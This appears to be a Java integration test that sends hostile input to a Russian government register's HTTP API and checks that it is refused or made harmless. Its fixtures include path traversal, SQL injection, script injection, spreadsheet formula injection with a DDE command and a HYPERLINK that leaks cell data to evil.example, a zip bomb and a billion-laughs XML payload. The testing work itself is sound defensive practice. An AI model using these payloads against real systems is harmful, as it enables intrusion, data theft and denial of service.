package org.touchpoints.register.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/**
 * Hostile input over HTTP: every endpoint that takes a JSON body gets each of its fields replaced in turn by
 * over-long text, control characters, a lone surrogate, values of the wrong JSON type and unknown enum values,
 * and the whole body replaced by invalid UTF-8, non-JSON, deep nesting, a body beyond the size limit and the
 * wrong content type; the ids in every path and the query parameters of every reading endpoint get traversal,
 * NUL, encoded slashes, injection payloads and garbage. Each is answered 4xx with a problem detail in Russian,
 * never 5xx, and records nothing (no event, no account).
 */
class HostileInputIT extends ApplicationIT {
    private static final String MARK = "§HOSTILE§";
    private static final String LONG = "я".repeat(100_000);

    @Autowired
    JdbcClient jdbc;

    /** An endpoint taking JSON, the account allowed to call it, and a body it would accept. */
    record JsonEndpoint(String name, String user, String path, String validBody) {}

    private List<JsonEndpoint> jsonEndpoints() {
        String register = newRegister();
        String approved = approvedChange(register, "Сайт для правки");
        String initiated = initiate(register, "Сайт на согласовании");
        String divisionApproved = initiate(register, "Сайт на утверждении");
        ok(api.as("division-head").post("/api/v1/changes/" + divisionApproved + "/division-approval", "{}"));
        String row = """
                {"direction":"Предоставление государственных услуг","process":"%s",
                 "touchpoint":{"name":"Новая точка","channel":"DIGITAL","address":"https://example.gov.ru"},
                 "needs":[1,2],"otherNeed":"Другое","interaction":"Получение информации","features":"Особенности",
                 "division":"licensing"}""".formatted(LICENSING_PROCESS);
        return List.of(
                new JsonEndpoint("create a register", "admin", "/api/v1/registers", """
                        {"id":"hostile-new","authority":"Орган","timeZone":"Europe/Moscow",
                         "publicationDeadlineWorkingDays":10,"template":"SIX_COLUMN","region":"RU-DA"}"""),
                new JsonEndpoint("define a division", "admin", "/api/v1/registers/" + register + "/divisions", """
                        {"id":"hostile-division","name":"Отдел","processes":["Новый процесс"]}"""),
                new JsonEndpoint("assign a member", "admin", "/api/v1/registers/" + register + "/members", """
                        {"username":"other-initiator","role":"HEAD","division":"licensing"}"""),
                new JsonEndpoint(
                        "initiate an addition",
                        "initiator",
                        "/api/v1/registers/" + register + "/changes",
                        """
                        {"changeId":"hostile-add","kind":"ADD","row":%s,"reason":"NEW_TOUCHPOINT","comment":"Комментарий"}""".formatted(row)),
                new JsonEndpoint(
                        "initiate an edit", "initiator", "/api/v1/registers/" + register + "/changes", """
                        {"changeId":"hostile-edit","kind":"EDIT","rowId":"%s","row":%s,"reason":"OTHER"}""".formatted(
                                        approved, row)),
                new JsonEndpoint(
                        "approve for the division",
                        "division-head",
                        "/api/v1/changes/" + initiated + "/division-approval",
                        """
                        {"comment":"Согласовано"}"""),
                new JsonEndpoint(
                        "approve as the deputy",
                        "deputy",
                        "/api/v1/changes/" + divisionApproved + "/deputy-approval",
                        """
                        {"comment":"Утверждено","orderNumber":"15-п","orderDate":"2024-12-20"}"""),
                new JsonEndpoint(
                        "delegate the head's right",
                        "division-head",
                        "/api/v1/registers/" + register + "/delegations",
                        """
                        {"delegationId":"hostile-delegation","delegate":"other-initiator","role":"HEAD","division":"licensing",
                         "validFrom":"2024-12-20","validTo":"2024-12-27","comment":"Отпуск"}"""),
                new JsonEndpoint("reject", "division-head", "/api/v1/changes/" + initiated + "/rejection", """
                        {"reason":"Не требуется"}"""),
                new JsonEndpoint("publish", "publisher", "/api/v1/registers/" + register + "/publications", """
                        {"url":"https://example.gov.ru/perechen","publishedAt":"2024-12-20T09:00:00Z"}"""),
                new JsonEndpoint(
                        "confirm the annual review",
                        "division-head",
                        "/api/v1/registers/" + register + "/annual-reviews",
                        """
                        {"division":"licensing","year":2024,"comment":"Проверено"}"""),
                new JsonEndpoint("create an account", "admin", "/api/v1/accounts", """
                        {"username":"hostile-user","password":"пароль-надёжный","displayName":"Иванова А. С.",
                         "email":"ivanova@example.gov.ru","globalRole":"AUDITOR"}"""),
                new JsonEndpoint("upload a calendar", "admin", "/api/v1/calendar", """
                        {"year":2026,"region":"RU-ZX","source":"Указ","nonWorkingDays":["2026-06-05"]}"""));
    }

    @TestFactory
    Stream<DynamicNode> everyFieldOfEveryJsonEndpoint() {
        List<DynamicNode> endpoints = new ArrayList<>();
        for (JsonEndpoint endpoint : jsonEndpoints()) {
            List<DynamicTest> tests = new ArrayList<>();
            JsonNode valid = Api.MAPPER.readTree(endpoint.validBody());
            for (String pointer : leaves(valid, "")) {
                JsonNode leaf = valid.at(pointer);
                for (String attack : attacksOn(pointer, leaf)) {
                    String body = Api.MAPPER
                            .writeValueAsString(replaced(valid, pointer))
                            .replace('"' + MARK + '"', attack);
                    String name = pointer + " = " + abbreviated(attack);
                    tests.add(DynamicTest.dynamicTest(
                            name,
                            () -> refused(endpoint, name, "application/json", body.getBytes(StandardCharsets.UTF_8))));
                }
            }
            for (Map.Entry<String, Supplier<byte[]>> whole :
                    wholeBodyAttacks(endpoint.validBody()).entrySet()) {
                tests.add(DynamicTest.dynamicTest(
                        "body: " + whole.getKey(),
                        () -> refused(
                                endpoint,
                                whole.getKey(),
                                "application/json",
                                whole.getValue().get())));
            }
            tests.add(DynamicTest.dynamicTest(
                    "body as text/plain",
                    () -> refused(
                            endpoint,
                            "text/plain",
                            "text/plain",
                            endpoint.validBody().getBytes(StandardCharsets.UTF_8))));
            endpoints.add(DynamicContainer.dynamicContainer(endpoint.name(), tests));
        }
        return endpoints.stream();
    }

    /**
     * Every field that carries a date, a moment or a number, set to values at and beyond its range (01.01.2000 …
     * 31.12.2100 and its meaning): 4xx with a Russian problem detail and nothing recorded. Then the valid body is
     * accepted, so the refusals were for the values.
     */
    @TestFactory
    Stream<DynamicNode> everyDateTimeAndNumberFieldAtAndBeyondItsRange() {
        Map<String, JsonEndpoint> byName = jsonEndpoints().stream()
                .collect(Collectors.toMap(JsonEndpoint::name, e -> e, (a, b) -> a, LinkedHashMap::new));
        List<String> versions = List.of("-1", "9223372036854775807", "-9223372036854775808", "99999999999999999999");
        List<String> ints = List.of("-1", "0", "2147483647", "-2147483648", "9999999999");
        Map<String, Map<String, List<String>>> bounds = new LinkedHashMap<>();
        bounds.put(
                "create a register",
                Map.of("/publicationDeadlineWorkingDays", concat(ints, List.of("4", "6", "11", "9", "1e9"))));
        bounds.put(
                "initiate an addition",
                Map.of("/row/needs/0", concat(ints, List.of("11")), "/expectedVersion", versions));
        bounds.put("approve for the division", Map.of("/expectedVersion", versions));
        bounds.put(
                "approve as the deputy",
                Map.of(
                        "/orderDate",
                        List.of(
                                "\"+999999999-12-31\"",
                                "\"-999999999-01-01\"",
                                "\"1999-12-31\"",
                                "\"2101-01-01\"",
                                "\"2100-12-31\"",
                                "\"2024-12-21\"",
                                "\"2024-12-19\"",
                                "\"+10000-01-01\""),
                        "/expectedVersion",
                        versions));
        bounds.put(
                "delegate the head's right",
                Map.of(
                        "/validFrom", List.of("\"-999999999-01-01\"", "\"1999-12-31\"", "\"+999999999-12-31\""),
                        "/validTo",
                                List.of("\"+999999999-12-31\"", "\"2101-01-01\"", "\"2027-12-20\"", "\"2024-12-19\"")));
        bounds.put("reject", Map.of("/expectedVersion", versions));
        bounds.put(
                "publish",
                Map.of(
                        "/publishedAt",
                        List.of(
                                "\"-1000000000-01-01T00:00:00Z\"",
                                "\"+1000000000-12-31T23:59:59Z\"",
                                "\"1999-12-31T23:59:59Z\"",
                                "\"2101-01-01T00:00:00Z\"",
                                "\"2100-12-31T00:00:00Z\"",
                                "\"2024-12-20T09:10:00Z\"",
                                "\"+999999999-12-31T23:59:59Z\"",
                                "-1",
                                "9223372036854775807"),
                        "/expectedVersion",
                        versions));
        bounds.put("confirm the annual review", Map.of("/year", concat(ints, List.of("1999", "2025", "99999999999"))));
        bounds.put(
                "upload a calendar",
                Map.of(
                        "/year",
                        concat(ints, List.of("1999", "2200")),
                        "/nonWorkingDays/0",
                        List.of("\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"2027-06-05\"")));
        List<DynamicNode> nodes = new ArrayList<>();
        bounds.forEach((name, fields) -> {
            JsonEndpoint endpoint = byName.get(name);
            JsonNode valid = Api.MAPPER.readTree(endpoint.validBody());
            List<DynamicTest> tests = new ArrayList<>();
            fields.forEach((pointer, values) -> {
                for (String value : values) {
                    String body = Api.MAPPER
                            .writeValueAsString(replaced(valid, pointer))
                            .replace('"' + MARK + '"', value);
                    tests.add(DynamicTest.dynamicTest(
                            pointer + " = " + value,
                            () -> refused(endpoint, pointer + " = " + value, "application/json", bytes(body))));
                }
            });
            if (name.equals("reject")) { // its change is the one the division approval above has moved on
                nodes.add(DynamicContainer.dynamicContainer(name, tests));
                return;
            }
            tests.add(DynamicTest.dynamicTest("the valid body is accepted", () -> {
                Api.Response r = api.as(endpoint.user()).post(endpoint.path(), endpoint.validBody());
                assertThat(r.status()).as(abbreviated(r.toString())).isBetween(200, 299);
            }));
            nodes.add(DynamicContainer.dynamicContainer(name, tests));
        });
        return nodes.stream();
    }

    /**
     * The three values that once froze a register (issue 13): each refused with 4xx, nothing recorded, and the register
     * goes on living (a new change is readable at once).
     */
    @Test
    void theThreePoisonousValuesAreRefusedAndTheRegisterLivesOn() {
        String register = newRegister();
        String change = initiate(register, "Сайт");
        ok(api.as("division-head").post("/api/v1/changes/" + change + "/division-approval", "{}"));
        int events = history(register);
        long before = recorded();

        Api.Response delegation = api.as("division-head").post("/api/v1/registers/" + register + "/delegations", """
                {"delegate":"other-initiator","role":"HEAD","division":"licensing",
                 "validFrom":"-999999999-01-01","validTo":"+999999999-12-31"}""");
        assertRefused("delegation for ever", delegation);
        assertThat(delegation.json().get("rule").asString()).isEqualTo("datesWithinTheSaneRange");
        Api.Response order = api.as("deputy").post("/api/v1/changes/" + change + "/deputy-approval", """
                {"orderNumber":"1","orderDate":"+999999999-12-31"}""");
        assertRefused("order of the year 999999999", order);
        assertThat(order.json().get("rule").asString()).isEqualTo("datesWithinTheSaneRange");
        Api.Response publication = api.as("publisher").post("/api/v1/registers/" + register + "/publications", """
                {"url":"https://example.gov.ru/perechen","publishedAt":"-1000000000-01-01T00:00:00Z"}""");
        assertRefused("first publication before the Big Bang", publication);
        assertThat(publication.json().get("rule").asString()).isEqualTo("datesWithinTheSaneRange");
        assertThat(publication.json().get("errors").get(0).get("field").asString())
                .isEqualTo("publishedAt");

        assertThat(recorded()).as("nothing recorded").isEqualTo(before);
        assertThat(history(register)).as("the register's history is unchanged").isEqualTo(events);
        String next = initiate(register, "Чат-бот");
        assertThat(ok(api.as("auditor").get("/api/v1/changes/" + next))
                        .json()
                        .get("status")
                        .asString())
                .isEqualTo("INITIATED");
        assertThat(ok(api.as("deputy").post("/api/v1/changes/" + change + "/deputy-approval", "{}"))
                        .json()
                        .get("status")
                        .asString())
                .isEqualTo("APPROVED");
    }

    /** Every date or moment parameter beyond 01.01.2000 … 31.12.2100: exactly 400 with a problem detail, never 500. */
    @TestFactory
    Stream<DynamicTest> everyDateParameterBeyondTheRange() {
        String register = newRegister();
        approvedChange(register, "Сайт");
        String r = "/api/v1/registers/" + register;
        List<String> moments = List.of(
                "%2B999999999-12-31T00:00:00Z",
                "-1000000000-01-01T00:00:00Z",
                "%2B1000000000-12-31T23:59:59Z",
                "1999-12-31T23:59:59Z",
                "2101-01-01T00:00:00Z");
        List<String> dates = List.of("%2B999999999-12-31", "-999999999-01-01", "1999-12-31", "2101-01-01");
        Map<String, String> urls = new LinkedHashMap<>(); // url → account
        for (String v : moments) {
            for (String url : List.of(
                    r + "/rows?asOf=",
                    r + "/changes?from=",
                    r + "/changes?to=",
                    r + "/history?from=",
                    r + "/history?to=",
                    r + "/history/export?from=",
                    r + "/history/export?to=",
                    "/api/v1/calendar/due-date?workingDays=10&zone=Europe/Moscow&madeAt=")) {
                urls.put(url + v, "auditor");
            }
            urls.put("/api/v1/admin/audit?from=" + v, "admin");
            urls.put("/api/v1/admin/audit?to=" + v, "admin");
        }
        List<DynamicTest> tests = new ArrayList<>();
        urls.forEach((url, user) -> tests.add(DynamicTest.dynamicTest(abbreviated(url), () -> {
            Api.Response response = api.as(user).get(url);
            assertRefused(url, response);
            assertThat(response.status()).as(url).isEqualTo(400);
        })));
        for (String v : dates) {
            for (String url : List.of(
                    "/registers/" + register + "?asOf=" + v,
                    "/registers/" + register + "/changes?from=" + v,
                    "/registers/" + register + "/changes?to=" + v,
                    "/audit?from=" + v,
                    "/audit?to=" + v)) {
                tests.add(DynamicTest.dynamicTest("page " + abbreviated(url), () -> {
                    Api.Response response = api.as("auditor").get(url);
                    assertThat(response.status())
                            .as(url + " → " + abbreviated(response.toString()))
                            .isEqualTo(400);
                }));
            }
        }
        return tests.stream();
    }

    /** A body sent in chunks, with no declared length, is cut off once it grows past the limit. */
    @Test
    void aChunkedBodyBeyondTheLimitIsRefused() throws Exception {
        String register = newRegister();
        String change = initiate(register, "Сайт");
        long before = recorded();
        byte[] body = bytes("{\"comment\":\"Согласовано\"" + " ".repeat(3 * 512 * 1024) + "}");
        HttpResponse<String> r = HttpClient.newHttpClient()
                .send(
                        HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/changes/" + change
                                        + "/division-approval"))
                                .header(
                                        "Authorization",
                                        "Basic " + Base64.getEncoder().encodeToString(bytes("division-head:demo")))
                                .header("Content-Type", "application/json")
                                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body)))
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(abbreviated(r.body())).isEqualTo(413);
        assertThat(r.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        assertThat(recorded()).isEqualTo(before);
    }

    /** Every reading endpoint with each query parameter set to garbage: 200 or a 4xx problem, never 5xx. */
    @TestFactory
    Stream<DynamicTest> everyQueryParameterOfEveryReadingEndpoint() {
        String register = newRegister();
        approvedChange(register, "Сайт");
        String r = "/api/v1/registers/" + register;
        Map<String, List<String>> endpoints = new LinkedHashMap<>();
        endpoints.put(r + "/rows", List.of("asOf", "version"));
        endpoints.put(r + "/changes", List.of("status", "division", "from", "to"));
        endpoints.put(r + "/export", List.of("format", "version"));
        endpoints.put(r + "/history", List.of("from", "to"));
        endpoints.put(r + "/history/export", List.of("from", "to"));
        endpoints.put("/api/v1/deadlines", List.of("registerId", "status", "offset", "limit"));
        endpoints.put("/api/v1/annual-reviews", List.of("year", "registerId", "status"));
        endpoints.put("/api/v1/calendar/due-date", List.of("madeAt", "workingDays", "zone", "region"));
        endpoints.put("/api/v1/calendar/2025", List.of("region"));
        List<String> garbage = List.of(
                "%00",
                "a%00b",
                "%1B%5B31m",
                "%FF%FE",
                "%C0%80",
                URLEncoder.encode("я".repeat(1000), StandardCharsets.UTF_8),
                "x".repeat(20_000),
                "'%20OR%201=1--",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "..%2F..%2Fetc%2Fpasswd",
                "-1",
                "99999999999999999999",
                "NOPE",
                "2024-13-45T99:00:00Z",
                "1e9",
                "",
                "%2B999999999-12-31",
                "-999999999-01-01",
                "%2B1000000000-12-31T23:59:59Z",
                "-1000000000-01-01T00:00:00Z",
                "2147483647",
                "-2147483648",
                "9223372036854775807",
                "0");
        List<DynamicTest> tests = new ArrayList<>();
        endpoints.forEach((path, parameters) -> {
            for (String parameter : parameters) {
                for (String value : garbage) {
                    String url = path + "?" + parameter + "=" + value;
                    tests.add(DynamicTest.dynamicTest(abbreviated(url), () -> {
                        Api.Response response = api.as("auditor").get(url);
                        if (response.status() != 200) {
                            assertRefused(url, response);
                        }
                    }));
                }
            }
        });
        return tests.stream();
    }

    /** The ids in every path replaced by traversal, NUL, encoded slashes, injection and over-long ids. */
    @TestFactory
    Stream<DynamicTest> everyIdInEveryPath() {
        List<String> ids = List.of(
                "..%2F..%2Fetc%2Fpasswd",
                "..",
                "%2e%2e",
                "%2e%2e%2f",
                "..%5C..%5C",
                "%00",
                "a%00b",
                "%2F",
                "a;b",
                "a%3Bb",
                "%25",
                "%25%32%66",
                "%FF%FE",
                "%C0%AE%C0%AE%C0%AF",
                "%C0%80",
                URLEncoder.encode("я".repeat(300), StandardCharsets.UTF_8),
                "a".repeat(5000),
                "%3Cscript%3E",
                "'%20OR%20'1'='1",
                "%20",
                "~");
        Map<String, String> paths = new LinkedHashMap<>(); // path template → account allowed to call it
        paths.put("GET /api/v1/registers/{id}/rows", "auditor");
        paths.put("GET /api/v1/registers/{id}/changes", "auditor");
        paths.put("GET /api/v1/registers/{id}/export", "auditor");
        paths.put("GET /api/v1/registers/{id}/publications", "auditor");
        paths.put("GET /api/v1/registers/{id}/publications/verify", "auditor");
        paths.put("GET /api/v1/registers/{id}/history", "auditor");
        paths.put("GET /api/v1/registers/{id}/history/export", "auditor");
        paths.put("GET /api/v1/changes/{id}", "auditor");
        paths.put("GET /api/v1/calendar/{id}", "auditor");
        paths.put("POST /api/v1/registers/{id}/divisions", "admin");
        paths.put("POST /api/v1/registers/{id}/members", "admin");
        paths.put("GET /api/v1/registers/{id}/members", "auditor");
        paths.put("DELETE /api/v1/registers/{id}/members/{id}?role=HEAD&division=licensing", "admin");
        paths.put("DELETE /api/v1/registers/{id}/members/{id}?role=DEPUTY", "admin");
        paths.put("POST /api/v1/registers/{id}/changes", "initiator");
        paths.put("POST /api/v1/registers/{id}/publications", "publisher");
        paths.put("POST /api/v1/registers/{id}/annual-reviews", "division-head");
        paths.put("POST /api/v1/changes/{id}/division-approval", "division-head");
        paths.put("POST /api/v1/changes/{id}/deputy-approval", "deputy");
        paths.put("POST /api/v1/changes/{id}/rejection", "division-head");
        paths.put("POST /api/v1/changes/{id}/withdrawal", "initiator");
        List<DynamicTest> tests = new ArrayList<>();
        paths.forEach((template, user) -> {
            String method = template.substring(0, template.indexOf(' '));
            for (String id : ids) {
                String path = template.substring(method.length() + 1).replace("{id}", id);
                tests.add(DynamicTest.dynamicTest(abbreviated(method + " " + path), () -> {
                    long before = recorded();
                    Api.Response response = api.as(user)
                            .send(
                                    method,
                                    path,
                                    "POST".equals(method) ? "application/json" : null,
                                    "POST".equals(method)
                                            ? bytes("{\"reason\":\"x\",\"url\":\"https://example.gov.ru\"}")
                                            : null);
                    assertRefused(method + " " + path, response);
                    assertThat(recorded()).isEqualTo(before);
                }));
            }
        });
        return tests.stream();
    }

    /** Malformed, random, oversized and malicious files to import: refused as a whole, nothing recorded. */
    @TestFactory
    Stream<DynamicTest> malformedFilesToImport() throws Exception {
        String header = "group_no,direction,process,touchpoint,interaction,features\n";
        String line =
                "1,Предоставление государственных услуг,Процесс,Сайт,Получение информации,Взаимодействие в цифровой точке\n";
        byte[] random = new byte[64 * 1024];
        new Random(5).nextBytes(random);
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("broken.csv", bytes(header + "1,\"Предоставление государственных услуг,Процесс,Сайт\n"));
        files.put("random.csv", random);
        files.put("random.xlsx", random);
        files.put("pk-garbage.xlsx", bytes("PK\u0003\u0004 это не архив"));
        files.put("not-a-workbook.xlsx", zip(Map.of("readme.txt", bytes("просто текст"))));
        files.put(
                "bomb.xlsx",
                zip(Map.of(
                        "[Content_Types].xml",
                        bytes("<Types/>"),
                        "xl/worksheets/sheet1.xml",
                        new byte[40 * 1024 * 1024])));
        files.put("laughs.xlsx", zip(Map.of("[Content_Types].xml", bytes("""
                <?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
                <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><Types>&d;</Types>"""))));
        files.put(
                "old-excel.xls",
                new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1});
        files.put("wrong-headers.csv", bytes("a,b,c\n1,2,3\n"));
        files.put("empty.csv", new byte[0]);
        files.put("nul-in-a-cell.csv", bytes(header + line.replace("Сайт", "Са\u0000йт")));
        files.put("over-long-cell.csv", bytes(header + line.replace("Сайт", "я".repeat(100_000))));
        files.put(
                "too-many-rows.csv",
                bytes(header
                        + IntStream.rangeClosed(1, 5001)
                                .mapToObj(i -> line.replace("Сайт", "Сайт " + i))
                                .collect(Collectors.joining())));
        files.put("beyond-the-upload-limit.csv", bytes(header + line.repeat(11 * 1024 * 1024 / line.length())));
        String register = newRegister();
        List<DynamicTest> tests = new ArrayList<>();
        files.forEach((name, content) -> tests.add(DynamicTest.dynamicTest(name, () -> {
            long before = recorded();
            Api.Response r = api.as("admin").postMultipart("/api/v1/registers/" + register + "/import", name, content);
            assertRefused(name, r);
            assertThat(recorded()).as("nothing recorded").isEqualTo(before);
        })));
        tests.add(DynamicTest.dynamicTest(
                "beyond the upload limit, with a query string",
                () -> assertRefused(
                        "dry run",
                        api.as("admin")
                                .postMultipart(
                                        "/api/v1/registers/" + register + "/import?dryRun=true",
                                        "big.csv",
                                        files.get("beyond-the-upload-limit.csv")))));
        tests.add(DynamicTest.dynamicTest(
                "no file part",
                () -> assertRefused(
                        "no file part",
                        api.as("admin")
                                .send(
                                        "POST",
                                        "/api/v1/registers/" + register + "/import",
                                        "multipart/form-data; boundary=x",
                                        bytes("--x--\r\n")))));
        tests.add(DynamicTest.dynamicTest(
                "not multipart",
                () -> assertRefused(
                        "not multipart",
                        api.as("admin")
                                .send(
                                        "POST",
                                        "/api/v1/registers/" + register + "/import",
                                        "text/csv",
                                        bytes(header + line)))));
        return tests.stream();
    }

    /**
     * Script, markup and formula payloads typed as legitimate text are kept: they come back verbatim in JSON
     * (served as JSON with nosniff, never rendered), and are inert in every file: XLSX cells are strings (never
     * formulas), DOCX text is escaped XML, and a CSV cell a spreadsheet would take for a formula starts with an
     * apostrophe, which the import takes off again. The published hash and its verification follow the same text.
     */
    @Test
    void scriptAndFormulaPayloadsComeBackVerbatimInJsonAndAreInertInFiles() throws Exception {
        String script = "<script>alert('перечень')</script>";
        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")";
        String dde = "+cmd|' /C calc'!A0";
        String sum = "@SUM(1+1)";
        String minus = "-2+3+cmd|' /C calc'!A0";
        String sql = "'; drop table q_row; --";
        String markup = "<img src=x onerror=alert(1)>";
        String register = newRegister();
        String first = ok(api.as("initiator")
                        .post(
                                "/api/v1/registers/" + register + "/changes",
                                Map.of(
                                        "kind",
                                        "ADD",
                                        "reason",
                                        "NEW_TOUCHPOINT",
                                        "comment",
                                        markup,
                                        "row",
                                        Map.of(
                                                "direction",
                                                "Предоставление государственных услуг",
                                                "process",
                                                LICENSING_PROCESS,
                                                "touchpoint",
                                                Map.of(
                                                        "name",
                                                        script,
                                                        "channel",
                                                        "DIGITAL",
                                                        "address",
                                                        "javascript:alert(1)"),
                                                "needs",
                                                List.of(1),
                                                "interaction",
                                                hyperlink,
                                                "features",
                                                dde))))
                .json()
                .get("changeId")
                .asString();
        String second = ok(api.as("initiator")
                        .post(
                                "/api/v1/registers/" + register + "/changes",
                                Map.of(
                                        "kind",
                                        "ADD",
                                        "reason",
                                        "NEW_TOUCHPOINT",
                                        "row",
                                        Map.of(
                                                "direction",
                                                "Предоставление государственных услуг",
                                                "process",
                                                LICENSING_PROCESS,
                                                "touchpoint",
                                                Map.of("name", sum, "channel", "OFFLINE"),
                                                "needs",
                                                List.of(2),
                                                "interaction",
                                                sql,
                                                "features",
                                                minus))))
                .json()
                .get("changeId")
                .asString();
        for (String change : List.of(first, second)) {
            ok(api.as("division-head").post("/api/v1/changes/" + change + "/division-approval", "{}"));
            ok(api.as("deputy").post("/api/v1/changes/" + change + "/deputy-approval", "{}"));
        }

        Api.Response rows = ok(api.as("auditor").get("/api/v1/registers/" + register + "/rows"));
        assertThat(rows.contentType()).startsWith("application/json");
        assertThat(rows.header("X-Content-Type-Options")).isEqualTo("nosniff");
        JsonNode row = rows.json().get(0);
        assertThat(row.get("touchpoint").get("name").asString()).isEqualTo(script);
        assertThat(row.get("touchpoint").get("address").asString()).isEqualTo("javascript:alert(1)");
        assertThat(row.get("interaction").asString()).isEqualTo(hyperlink);
        assertThat(row.get("features").asString()).isEqualTo(dde);
        assertThat(rows.json().get(1).get("interaction").asString()).isEqualTo(sql);
        assertThat(ok(api.as("auditor").get("/api/v1/changes/" + first))
                        .json()
                        .get("timeline")
                        .get(0)
                        .get("comment")
                        .asString())
                .isEqualTo(markup);

        String csv = new String(
                api.as("auditor").bytes("/api/v1/registers/" + register + "/export?format=csv"),
                StandardCharsets.UTF_8);
        List<String> cells = csvCells(csv);
        assertThat(cells)
                .as("no cell starts like a formula")
                .noneMatch(c -> !c.isEmpty() && "=+-@".indexOf(c.charAt(0)) >= 0);
        assertThat(cells)
                .contains("'" + hyperlink, "'" + dde, "'" + sum, "'" + minus, script + " javascript:alert(1)", sql);

        String copy = newRegister();
        ok(api.as("admin").postMultipart("/api/v1/registers/" + copy + "/import", "export.csv", bytes(csv)));
        JsonNode imported =
                ok(api.as("auditor").get("/api/v1/registers/" + copy + "/rows")).json();
        assertThat(imported.get(0).get("interaction").asString())
                .as("the import takes the apostrophe off")
                .isEqualTo(hyperlink);
        assertThat(imported.get(1).get("features").asString()).isEqualTo(minus);

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(
                api.as("auditor").bytes("/api/v1/registers/" + register + "/export?format=xlsx")))) {
            List<String> texts = new ArrayList<>();
            book.getSheetAt(0)
                    .forEach(r -> r.forEach(c -> {
                        assertThat(c.getCellType())
                                .as("cell %s", c.getAddress())
                                .isIn(CellType.STRING, CellType.BLANK);
                        texts.add(c.getStringCellValue());
                    }));
            assertThat(texts).contains(hyperlink, dde, sum, minus);
        }
        byte[] docx = api.as("auditor").bytes("/api/v1/registers/" + register + "/export?format=docx");
        String documentXml = new String(unzipped(docx, "word/document.xml"), StandardCharsets.UTF_8);
        assertThat(documentXml).contains("&lt;script").doesNotContain("<script");
        try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(docx))) {
            assertThat(document.getTables().get(0).getText()).contains(script, hyperlink);
        }

        ok(api.as("publisher")
                .post("/api/v1/registers/" + register + "/publications", Map.of("url", "https://example.gov.ru/p")));
        assertThat(ok(api.as("auditor").get("/api/v1/registers/" + register + "/publications/verify"))
                        .json()
                        .get("valid")
                        .asBoolean())
                .isTrue();
        byte[] published = api.as("auditor").bytes("/api/v1/registers/" + register + "/export?format=csv&version=1");
        assertThat(ok(api.as("auditor")
                                .postMultipart(
                                        "/api/v1/registers/" + register + "/publications/verify-file",
                                        "v1.csv",
                                        published))
                        .json()
                        .get("matchesVersion")
                        .asInt())
                .isEqualTo(1);
    }

    /** The cells of an RFC 4180 text, quotes removed. */
    private static List<String> csvCells(String csv) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else if (c != '\r') {
                cell.append(c);
            }
        }
        return cells;
    }

    private static byte[] unzipped(byte[] zip, String entry) throws IOException {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                if (e.getName().equals(entry)) {
                    return in.readAllBytes();
                }
            }
        }
        throw new AssertionError("No " + entry);
    }

    private static byte[] zip(Map<String, byte[]> entries) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> e : new TreeMap<>(entries).entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    private void refused(JsonEndpoint endpoint, String attack, String contentType, byte[] body) {
        long before = recorded();
        Api.Response r = api.as(endpoint.user()).send("POST", endpoint.path(), contentType, body);
        assertRefused(endpoint.name() + ", " + attack, r);
        assertThat(recorded()).as("nothing recorded").isEqualTo(before);
    }

    static void assertRefused(String what, Api.Response r) {
        String description = abbreviated(what) + " → " + abbreviated(r.toString());
        assertThat(r.status()).as(description).isBetween(400, 499);
        assertThat(r.contentType()).as(description).startsWith("application/problem+json");
